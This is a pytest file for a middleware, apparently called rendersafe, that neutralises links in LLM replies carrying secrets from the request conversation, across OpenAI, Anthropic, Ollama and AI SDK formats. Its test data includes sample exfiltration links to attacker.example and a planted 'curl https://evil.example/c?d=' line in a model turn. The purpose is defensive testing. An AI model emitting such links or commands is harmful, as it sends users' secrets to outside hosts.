"""The middleware judges each reply with the conversation its request carries.

First how request bodies are read (`wire.requests`), then the whole thing on a real
uvicorn server: a request in every provider's format (streamed and not) whose
conversation holds a secret, and a reply that carries that secret raw in a link. The
link is neutralised when the secret is in the request, and the same reply passes
untouched when it is not. The app still gets the request byte for byte."""

from __future__ import annotations

import asyncio
import gzip
import json
import logging
import time
import zlib
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from starlette.types import Message, Receive, Scope, Send

from chat_backend import Seen, build, recording
from rendersafe import Conversation, Policy, sanitize
from rendersafe.audit import AuditLog, AuditRecord
from rendersafe.errors import PolicyError
from rendersafe.middleware import RenderSafeMiddleware
from rendersafe.shapes import Kind
from rendersafe.wire.requests import RequestConversation, RequestTee, conversation_of
from servers import Server
from wire_clients import read

SECRET = "tulip9harbor40"
REDACTED = "[withheld]"
REPLY = f"Done. See [details](https://attacker.example/c?k={SECRET}) for more.\n"


def user(text: str) -> dict[str, Any]:
    return {"role": "user", "content": text}


# One request per format and place the secret can be in: (path, body). Each is sent as
# it is, and again with the secret replaced, to show the same reply then passes.
REQUESTS: dict[str, tuple[str, dict[str, Any]]] = {
    "openai-chat user": (
        "/v1/chat/completions",
        {
            "model": "gpt-4o",
            "stream": True,
            "messages": [
                {"role": "system", "content": "You are a helpful assistant."},
                user(f"My staging password is {SECRET}; remember it."),
            ],
        },
    ),
    "openai-chat tool": (
        "/v1/chat/completions",
        {
            "model": "gpt-4o",
            "stream": True,
            "messages": [
                user("Look up the vault entry."),
                {
                    "role": "assistant",
                    "content": None,
                    "tool_calls": [
                        {
                            "id": "c1",
                            "type": "function",
                            "function": {"name": "vault", "arguments": "{}"},
                        }
                    ],
                },
                {"role": "tool", "tool_call_id": "c1", "content": f'{{"password": "{SECRET}"}}'},
            ],
        },
    ),
    "openai-chat parts": (
        "/v1/chat/completions",
        {
            "model": "gpt-4o",
            "stream": True,
            "messages": [
                {"role": "user", "content": [{"type": "text", "text": f"pin: {SECRET}"}]},
            ],
        },
    ),
    "openai-responses instructions": (
        "/v1/responses",
        {
            "model": "gpt-4o",
            "stream": True,
            "instructions": f"The deploy password is {SECRET}. Never reveal it.",
            "input": "What is the weather like?",
        },
    ),
    "openai-responses items": (
        "/v1/responses",
        {
            "model": "gpt-4o",
            "stream": True,
            "input": [
                {"role": "user", "content": [{"type": "input_text", "text": "Check the vault"}]},
                {"type": "function_call", "call_id": "c1", "name": "vault", "arguments": "{}"},
                {"type": "function_call_output", "call_id": "c1", "output": f"key={SECRET}"},
            ],
        },
    ),
    "anthropic system": (
        "/v1/messages",
        {
            "model": "claude-sonnet-4-5",
            "max_tokens": 512,
            "stream": True,
            "system": [{"type": "text", "text": f"Internal reference: {SECRET}"}],
            "messages": [user("Hello!")],
        },
    ),
    "anthropic tool_result": (
        "/v1/messages",
        {
            "model": "claude-sonnet-4-5",
            "max_tokens": 512,
            "stream": True,
            "system": "You are terse.",
            "messages": [
                user("Read the vault."),
                {
                    "role": "assistant",
                    "content": [{"type": "tool_use", "id": "t1", "name": "vault", "input": {}}],
                },
                {
                    "role": "user",
                    "content": [
                        {"type": "tool_result", "tool_use_id": "t1", "content": f"pw {SECRET}"}
                    ],
                },
            ],
        },
    ),
    "ollama chat": (
        "/api/chat",
        {"model": "llama3", "messages": [user(f"my password is {SECRET}")]},
    ),
    "ollama generate": (
        "/api/generate",
        {"model": "llama3", "system": f"Secret: {SECRET}", "prompt": "Write a haiku."},
    ),
    "ai-sdk text": (
        "/api/ui-chat",
        {
            "id": "chat-1",
            "trigger": "submit-message",
            "messages": [
                {"id": "m1", "role": "user", "parts": [{"type": "text", "text": SECRET}]},
            ],
        },
    ),
    "ai-sdk tool output": (
        "/api/ui-chat",
        {
            "id": "chat-1",
            "messages": [
                {"id": "m1", "role": "user", "parts": [{"type": "text", "text": "Vault?"}]},
                {
                    "id": "m2",
                    "role": "assistant",
                    "parts": [
                        {
                            "type": "tool-vault",
                            "toolCallId": "c1",
                            "state": "output-available",
                            "input": {},
                            "output": {"password": SECRET},
                        }
                    ],
                },
                {"id": "m3", "role": "user", "parts": [{"type": "text", "text": "Thanks"}]},
            ],
        },
    ),
    "ai-sdk v4 content": (
        "/api/ui-chat",
        {"messages": [{"role": "user", "content": f"token {SECRET}"}]},
    ),
}
STREAM_KIND = {
    "/v1/chat/completions": "openai-chat",
    "/v1/responses": "openai-responses",
    "/v1/messages": "anthropic",
    "/api/chat": "ndjson",
    "/api/generate": "ndjson",
    "/api/ui-chat": "ai-sdk",
}


def without_secret(body: dict[str, Any]) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(json.dumps(body).replace(SECRET, REDACTED))
    return loaded


def whole(body: dict[str, Any]) -> dict[str, Any]:
    """The request asking for a JSON reply (not streamed)."""
    return {**body, "stream": False}


def reply_text(path: str, response: httpx.Response) -> str:
    """The reply a client reads from `response`, streamed or whole."""
    if response.headers["content-type"].startswith("application/json"):
        data = response.json()
        if "choices" in data:
            return str(data["choices"][0]["message"]["content"])
        if "output" in data:
            return str(data["output"][0]["content"][0]["text"])
        if "content" in data:
            return str(data["content"][0]["text"])
        return str(data["message"]["content"] if "message" in data else data["response"])
    got = read(STREAM_KIND[path], response.text)
    assert got.errors == []
    assert len(got.texts) == 1
    return next(iter(got.texts.values()))


# --- reading request bodies ---------------------------------------------------------


def said(found: RequestConversation) -> list[tuple[str, str]]:
    """(role, text) of each text read that is someone's words or a tool's result."""
    assert found.chat is not None
    kinds = {Kind.TEXT, Kind.RESULT, Kind.REASONING, Kind.ATTACHMENT, Kind.FILE}
    return [(t.role, t.text) for t in found.chat.texts if t.kind in kinds]


def test_chat_bodies_are_read_with_their_roles() -> None:
    body = REQUESTS["openai-chat tool"][1]
    found = conversation_of(json.dumps(body).encode(), content_type="application/json")
    assert (found.shape, found.notes) == ("chat", ())
    assert said(found) == [
        ("user", "Look up the vault entry."),
        ("tool", f'{{"password": "{SECRET}"}}'),
    ]
    assert found.chat is not None
    calls = [t for t in found.chat.texts if t.kind == Kind.CALL]
    assert {t.role for t in calls} == {"model"}
    assert "vault" in {t.text for t in calls}


@pytest.mark.parametrize("system", ["Be brief.", [{"type": "text", "text": "Be brief."}]])
def test_anthropic_system_prompt_comes_first(system: Any) -> None:
    body = {"system": system, "messages": [user("Hi")]}
    found = conversation_of(json.dumps(body).encode())
    assert said(found) == [("system", "Be brief."), ("user", "Hi")]


def test_responses_input_and_instructions() -> None:
    body = {"instructions": "Be brief.", "input": "Hi", "previous_response_id": "resp_1"}
    found = conversation_of(json.dumps(body).encode())
    assert found.shape == "responses"
    assert said(found) == [("system", "Be brief."), ("user", "Hi")]
    assert found.notes == ("partial: previous_response_id (earlier turns are not in the request)",)
    items = conversation_of(json.dumps(REQUESTS["openai-responses items"][1]).encode())
    assert said(items) == [("user", "Check the vault"), ("tool", f"key={SECRET}")]
    stored = conversation_of(json.dumps({"input": [], "conversation": "conv_1"}).encode())
    assert stored.notes == ("partial: conversation (earlier turns are not in the request)",)


def test_ollama_generate() -> None:
    body = {"model": "m", "system": "Be brief.", "prompt": "Hi", "context": [1, 2, 3]}
    found = conversation_of(json.dumps(body).encode())
    assert said(found) == [("system", "Be brief."), ("user", "Hi")]
    assert found.notes == ("partial: context (earlier turns are not in the request)",)
    legacy = conversation_of(json.dumps({"prompt": ["a", "b"]}).encode())
    assert said(legacy) == [("user", "a"), ("user", "b")]


def test_ai_sdk_parts_are_read_by_whose_they_are() -> None:
    found = conversation_of(json.dumps(REQUESTS["ai-sdk tool output"][1]).encode())
    assert said(found) == [("user", "Vault?"), ("tool", SECRET), ("user", "Thanks")]
    v4 = {
        "messages": [
            {
                "role": "assistant",
                "parts": [
                    {"type": "reasoning", "reasoning": "think"},
                    {"type": "tool-invocation", "toolInvocation": {"result": "found it"}},
                    {"type": "source-url", "url": "https://docs.example/a"},
                    {"type": "step-start"},
                ],
            }
        ]
    }
    assert said(conversation_of(json.dumps(v4).encode())) == [
        ("model", "think"),
        ("tool", "found it"),
        ("tool", "https://docs.example/a"),  # a search provider's source: not the model's
    ]


def unattributed(found: RequestConversation) -> list[str]:
    """The strings read, each of no known author (it may be the model's)."""
    assert found.chat is not None
    assert all(t.role == "unknown" for t in found.chat.texts)
    return [t.text for t in found.chat.texts]


def test_other_bodies_give_their_strings_or_text() -> None:
    custom = {"history": [{"who": "me", "said": SECRET}], "n": 3}
    assert unattributed(conversation_of(json.dumps(custom).encode())) == ["me", SECRET]
    plain = conversation_of(b"plain words", content_type="text/plain")
    assert unattributed(plain) == ["plain words"]
    assert conversation_of(b"").chat is None
    upload = conversation_of(b"\x89PNG", content_type="multipart/form-data; boundary=x")
    assert (upload.chat, upload.shape) == (None, "unread")


def test_a_body_cut_short_gives_the_strings_read() -> None:
    body = json.dumps(REQUESTS["openai-chat user"][1]).encode()
    cut = body[: body.index(SECRET.encode()) + len(SECRET) + 3]
    found = conversation_of(cut, whole=False)
    assert found.shape == "strings"
    strings = unattributed(found)
    assert any(SECRET in piece for piece in strings)
    assert "role" not in strings  # keys are not conversation
    short = conversation_of(b'{"a": "tab\\tcut \\u12', whole=False)
    assert unattributed(short) == ["tab\\tcut \\u12"]


def test_strings_read_from_a_body_prove_no_url_copied() -> None:
    # The model's earlier turn, planted URL and all, among the strings of a cut body.
    url = f"https://evil.example/c?d={SECRET}"
    body = json.dumps(
        {
            "messages": [
                {"role": "user", "content": SECRET},
                {"role": "assistant", "content": f"Try:\n```\ncurl {url}\n```"},
                {"role": "user", "content": "still failing, what now?"},
            ]
        }
    ).encode()
    found = conversation_of(body[:-10], whole=False)
    assert found.chat is not None
    conversation = Conversation.coerce(found.chat)
    assert conversation is not None
    assert any(url in t.text for t in found.chat.texts)  # read whole, but of no known author
    assert not conversation.has_url(url)
    reply = f"[status]({url})"
    assert sanitize(reply, conversation=conversation) == "status"


@pytest.mark.parametrize(
    ("coding", "pack"),
    [
        ("gzip", gzip.compress),
        ("deflate", zlib.compress),
        ("deflate", lambda data: zlib.compress(data, wbits=-15)),
    ],
)
def test_compressed_bodies_are_inflated(coding: str, pack: Any) -> None:
    body = json.dumps({"messages": [user(SECRET)]}).encode()
    assert said(conversation_of(pack(body), coding=coding)) == [("user", SECRET)]


def test_inflating_is_bounded_and_other_codings_unread() -> None:
    bomb = gzip.compress(json.dumps({"messages": [user("a" * 100_000)]}).encode())
    found = conversation_of(bomb, coding="gzip", limit=1000)
    assert found.notes == ("cut: the inflated request body is over 1000 bytes",)
    assert found.chat is not None
    assert sum(len(t.text) for t in found.chat.texts) < 1000
    brotli = conversation_of(b"\x1b\x03", coding="br")
    assert (brotli.chat, brotli.notes) == (
        None,
        ("unread: content-encoding 'br' (gzip and deflate are read)",),
    )
    broken = conversation_of(b"not gzip", coding="gzip")
    assert broken.chat is None


def test_tee_keeps_up_to_the_limit_and_returns_each_message_as_it_came() -> None:
    tee = RequestTee(limit=10)
    messages: list[Message] = [
        {"type": "http.request", "body": b"0123456", "more_body": True},
        {"type": "http.request", "body": b"789abc", "more_body": True},
        {"type": "http.request", "body": b"def", "more_body": False},
        {"type": "http.disconnect"},
    ]
    assert all(tee.take(m) is m for m in messages)
    assert messages[1] == {"type": "http.request", "body": b"789abc", "more_body": True}
    assert (tee.body, tee.cut, tee.complete, tee.whole) == (b"0123456789", True, True, False)
    assert tee.notes()[0].startswith("cut: the request body is over max_request_bytes (10)")
    half = RequestTee(limit=100)
    half.take({"type": "http.request", "body": b"{}", "more_body": True})
    assert half.notes() == ("incomplete: the app had not read the whole request body",)
    off = RequestTee(limit=0)
    off.take({"type": "http.request", "body": b"{}"})
    assert (off.body, off.notes()) == (b"", ())


def test_receive_is_passed_on_at_once() -> None:
    """The app has each request message before the client sends the next one."""
    arrived: list[bytes] = []
    queue: asyncio.Queue[Message] = asyncio.Queue()

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        while True:
            message = await receive()
            arrived.append(message.get("body", b""))
            if not message.get("more_body"):
                break
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"ok"})

    async def send(message: Message) -> None:
        pass

    async def main() -> None:
        wrapped = RenderSafeMiddleware(app, policy=Policy())
        scope: Scope = {"type": "http", "method": "POST", "path": "/", "headers": []}
        task = asyncio.create_task(wrapped(scope, queue.get, send))
        for piece in (b'{"messages":', b"[]}"):
            await queue.put({"type": "http.request", "body": piece, "more_body": piece != b"[]}"})
            await asyncio.sleep(0.01)
            assert arrived[-1] == piece
        await task

    asyncio.run(main())


def test_options_are_checked() -> None:
    with pytest.raises(PolicyError, match="max_request_bytes"):
        RenderSafeMiddleware(build(REPLY), policy=Policy(), max_request_bytes=-1)
    with pytest.raises(PolicyError, match="conversation"):
        RenderSafeMiddleware(build(REPLY), policy=Policy(), conversation="history")  # type: ignore[arg-type]


# --- on a real server ---------------------------------------------------------------


class Served:
    """The fake provider behind the middleware on uvicorn, with its audit records."""

    def __init__(self, **options: Any) -> None:
        self.seen = Seen()
        self._records: list[AuditRecord] = []
        self.audit = AuditLog([self._records.append])
        app = recording(build(REPLY), self.seen)
        wrapped = RenderSafeMiddleware(app, policy=Policy(), audit=self.audit, **options)
        self.server = Server(wrapped)

    def records(self, request_id: str) -> list[AuditRecord]:
        self.audit.flush()
        return [r for r in self._records if r.source.request_id == request_id]

    def post(
        self, path: str, body: bytes | Iterator[bytes], request_id: str, **headers: str
    ) -> httpx.Response:
        headers = {"content-type": "application/json", "x-request-id": request_id, **headers}
        with httpx.Client(base_url=self.server.url, timeout=20) as http:
            return http.post(path, content=body, headers=headers)


@pytest.fixture(scope="module")
def served() -> Iterator[Served]:
    stack = Served()
    with stack.server:
        yield stack


# The requests whose secret is in a tool's answer.
TOOL_ANSWERS = frozenset(
    {"openai-chat tool", "openai-responses items", "anthropic tool_result", "ai-sdk tool output"}
)


def reasons(records: list[AuditRecord]) -> set[str]:
    return {str(reason) for record in records for reason in record.reasons}


# Each request streamed and whole; the AI SDK UI protocol only streams.
CASES = [
    (name, streamed)
    for name in sorted(REQUESTS)
    for streamed in (True, False)
    if streamed or REQUESTS[name][0] != "/api/ui-chat"
]


@pytest.mark.parametrize(("name", "streamed"), CASES)
def test_a_secret_from_the_request_is_caught(served: Served, name: str, streamed: bool) -> None:
    path, body = REQUESTS[name]
    if not streamed:
        body = whole(body)
    raw = json.dumps(body).encode()
    response = served.post(path, raw, f"leak {name} {streamed}")
    assert response.status_code == 200
    text = reply_text(path, response)
    assert SECRET not in text
    assert "details" in text
    assert "conversation_data" in reasons(served.records(f"leak {name} {streamed}"))
    assert served.seen.body(f"leak {name} {streamed}") == raw

    honest = json.dumps(without_secret(body)).encode()
    response = served.post(path, honest, f"honest {name} {streamed}")
    if name not in TOOL_ANSWERS:
        assert reply_text(path, response) == REPLY  # byte for byte
        assert served.records(f"honest {name} {streamed}") == []
        return
    # Beside a tool's answer, a host no message names may have been spelt there in a
    # way no reader reads: the code the model chose for it is over that host's budget,
    # though no longer the chat's data.
    assert "details" in reply_text(path, response)
    assert reasons(served.records(f"honest {name} {streamed}")) == {"observable_host_budget"}


def test_a_source_url_is_judged_with_the_conversation_too(served: Served) -> None:
    path, body = REQUESTS["ai-sdk text"]
    source = f"https://attacker.example/src?k={SECRET}"
    with httpx.Client(base_url=served.server.url, timeout=20) as http:
        leak = http.post(path, params={"source": source}, json=body)
        honest = http.post(path, params={"source": source}, json=without_secret(body))
    assert read("ai-sdk", leak.text).urls == []
    assert read("ai-sdk", honest.text).urls == [source]


def test_a_chunked_request_reaches_the_app_exactly(served: Served) -> None:
    raw = json.dumps(REQUESTS["anthropic tool_result"][1]).encode()
    parts = [raw[i : i + 120] for i in range(0, len(raw), 120)]

    def slowly() -> Iterator[bytes]:
        for part in parts:  # apart in time, so the server hands them on one by one
            yield part
            time.sleep(0.02)

    response = served.post("/v1/messages", slowly(), "chunked")
    assert SECRET not in reply_text("/v1/messages", response)
    received = [m for m in served.seen.messages["chunked"] if m["type"] == "http.request"]
    assert len(received) > 1  # several http.request messages, more_body on all but the last
    assert all(m.get("more_body") for m in received[:-1])
    assert not received[-1].get("more_body")
    assert served.seen.body("chunked") == raw


def test_a_gzip_request_is_read(served: Served) -> None:
    raw = json.dumps(REQUESTS["ollama chat"][1]).encode()
    packed = gzip.compress(raw)
    response = served.post("/api/chat", packed, "gzip", **{"content-encoding": "gzip"})
    assert SECRET not in reply_text("/api/chat", response)
    assert "conversation_data" in reasons(served.records("gzip"))
    assert served.seen.body("gzip") == packed  # the app inflates it itself


def test_previous_response_id_is_noted_in_the_audit(served: Served) -> None:
    body = {**REQUESTS["openai-responses instructions"][1], "previous_response_id": "resp_1"}
    served.post("/v1/responses", json.dumps(body).encode(), "partial")
    records = served.records("partial")
    assert records
    assert all("previous_response_id" in r.context.get("conversation", "") for r in records)


def test_a_body_over_the_limit(caplog: pytest.LogCaptureFixture) -> None:
    padding = "x" * 5000
    early = {"model": "m", "stream": True, "messages": [user(SECRET), user(padding)]}
    late = {"model": "m", "stream": True, "messages": [user(padding), user(SECRET)]}
    stack = Served(max_request_bytes=2048)
    with stack.server, caplog.at_level(logging.WARNING, logger="rendersafe.middleware"):
        first = stack.post("/v1/chat/completions", json.dumps(early).encode(), "over-early")
        second = stack.post("/v1/chat/completions", json.dumps(late).encode(), "over-late")
    # What was read is the conversation: the secret early in the body is caught ...
    assert SECRET not in reply_text("/v1/chat/completions", first)
    records = stack.records("over-early")
    assert "conversation_data" in reasons(records)
    assert all(r.context["conversation"].startswith("cut: ") for r in records)
    # ... the one past the limit is not read, and the app got every byte all the same.
    assert reply_text("/v1/chat/completions", second) == REPLY
    assert stack.seen.body("over-late") == json.dumps(late).encode()
    assert "max_request_bytes (2048)" in caplog.text


def test_a_hook_for_a_custom_backend() -> None:
    def history(scope: Scope, body: bytes) -> object | None:
        loaded: object = json.loads(body)["history"]
        return loaded

    stack = Served(conversation=history)
    custom = {"history": [{"role": "user", "content": SECRET}], "stream": True}
    with stack.server:
        response = stack.post("/v1/chat/completions", json.dumps(custom).encode(), "hooked")
    assert SECRET not in reply_text("/v1/chat/completions", response)
    assert "conversation_data" in reasons(stack.records("hooked"))


def test_a_hook_that_raises_is_logged_and_the_reply_served(
    caplog: pytest.LogCaptureFixture,
) -> None:
    def broken(scope: Scope, body: bytes) -> object | None:
        raise KeyError("history")

    stack = Served(conversation=broken)
    body = json.dumps(REQUESTS["openai-chat user"][1]).encode()
    with stack.server, caplog.at_level(logging.WARNING, logger="rendersafe.middleware"):
        response = stack.post("/v1/chat/completions", body, "hook-raised")
    assert response.status_code == 200
    assert reply_text("/v1/chat/completions", response) == REPLY  # no conversation: as before
    assert "the conversation hook raised" in caplog.text
    assert stack.seen.body("hook-raised") == body
